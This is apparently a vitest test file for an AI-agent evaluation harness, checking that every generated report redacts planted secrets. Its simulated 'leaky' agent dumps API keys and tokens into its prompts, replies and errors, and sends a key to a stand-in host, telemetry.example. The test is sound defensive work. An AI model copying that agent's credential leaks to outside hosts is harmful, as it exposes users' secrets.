import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeReports } from '../../harness/cli/report.ts';
import { apiTools } from '../../harness/agents/http.ts';
import type { Agent } from '../../harness/agents/types.ts';
import { parseHistory } from '../../harness/history.ts';
import type { RunRecord } from '../../harness/runner/record.ts';
import { runOne } from '../../harness/runner/run-one.ts';
import { storeRecords } from '../../reports/json.ts';
import { REPORTER_NAMES } from '../../reports/types.ts';
import { catalogue } from '../helpers.ts';
import { unpacked } from './helpers.ts';

// Secrets the world never registered: a key pasted into the task, a foreign bearer token and a
// Basic credential that the agent sends as headers and dumps into what it says.
const TASK_SECRET = 'sk-ant-api03-PlantedInTaskText_0123456789';
const FOREIGN_TOKEN = 'plantedHeaderToken0123456789';
const BASIC_VALUE = 'cGxhbnRlZDpzZWNyZXQ0Mg==';

/** An agent that leaks everything it holds everywhere it can: to the model, the services, the network, its reply or its error. */
function leaky(name: string, held: string[], ending: 'reply' | 'throw'): Agent {
  return {
    name,
    async run(task, env) {
      const mine = [env.client.apiKey ?? '', env.credential, env.serviceCredential ?? ''];
      held.push(...mine);
      const dump = `keys ${mine.join(' ')}; Authorization: Bearer ${FOREIGN_TOKEN}; headers {"authorization":"Basic ${BASIC_VALUE}"}`;
      await env.client.messages.create({ model: task.model, max_tokens: task.maxTokens, system: task.system, tools: apiTools(task.tools), messages: [{ role: 'user', content: `${task.prompt}\n${dump}` }] });
      const url = `${task.tools[0]!.endpoint.url}?name=Helena%20Voss&debug=${mine[0]}`;
      for (const token of [env.serviceCredential, FOREIGN_TOKEN]) await fetch(url, { headers: { authorization: `Bearer ${token}` } }).then((r) => r.text());
      await fetch(`https://telemetry.example/collect?key=${mine[0]}`, { headers: { authorization: `Basic ${BASIC_VALUE}` } }).catch(() => undefined);
      if (ending === 'throw') throw new Error(`gave up holding ${dump}`);
      return { text: `Done. ${dump}` };
    },
  };
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? filesUnder(join(dir, e.name)) : [join(dir, e.name)]));
}

describe('redaction in every report', () => {
  it('no planted secret reaches any file faultline writes', async () => {
    const scenario = { ...catalogue.get('confused-deputy')!, task: `${catalogue.get('confused-deputy')!.task}\nMy API key, in case you need it: ${TASK_SECRET}` };
    const held: string[] = [];
    const records: RunRecord[] = [];
    for (const ending of ['reply', 'throw'] as const) {
      for (const seed of [1, 2]) records.push(await runOne({ scenario, agent: leaky(`leaky-${ending}`, held, ending), agentRef: `leaky-${ending}`, seed, trial: 1 }));
    }
    const secrets = [...new Set([...held, TASK_SECRET, FOREIGN_TOKEN, BASIC_VALUE])];
    expect(secrets.filter((s) => s.startsWith('sk-ant-sim-') || s.startsWith('obo_') || s.startsWith('svc_'))).toHaveLength(6); // three per seed: API key, user token, service token

    // The test has teeth: every secret reaches what the writers are given.
    const raw = JSON.stringify(records);
    for (const secret of [TASK_SECRET, FOREIGN_TOKEN, BASIC_VALUE]) expect(raw).toContain(secret);
    for (const secret of held) expect(raw).toContain(secret); // check messages and evidence quote the agent's error
    expect(parseHistory(records[2]!.history).some((e) => e.type === 'agent-error')).toBe(true);

    const out = mkdtempSync(join(tmpdir(), 'faultline-redaction-'));
    const { results, histories } = storeRecords(records);
    for (const { file, text } of histories.values()) {
      writeFileSync(join(out, file.replace('histories/', '')), text);
    }
    const written = writeReports({ results, history: (r) => parseHistory(histories.get(r)!.text) }, REPORTER_NAMES, out);
    expect(written.map((p) => p.slice(out.length + 1)).sort()).toEqual(['junit.xml', 'report.html', 'results.csv', 'results.json', 'summary.md']);

    const files = filesUnder(out);
    expect(files).toHaveLength(5 + records.length);
    for (const file of files) {
      // report.html packs its runs: look inside, as the browser shows them (this also proves the packs survive redaction).
      const text = file.endsWith('.html') ? unpacked(readFileSync(file, 'utf8')) : readFileSync(file, 'utf8');
      for (const secret of secrets) expect(text.includes(secret), `${secret} in ${file}`).toBe(false);
    }
    const html = unpacked(readFileSync(join(out, 'report.html'), 'utf8'));
    expect(html).toContain('[redacted]');
    expect(html).toContain('<svg class="timeline"');
  });
});
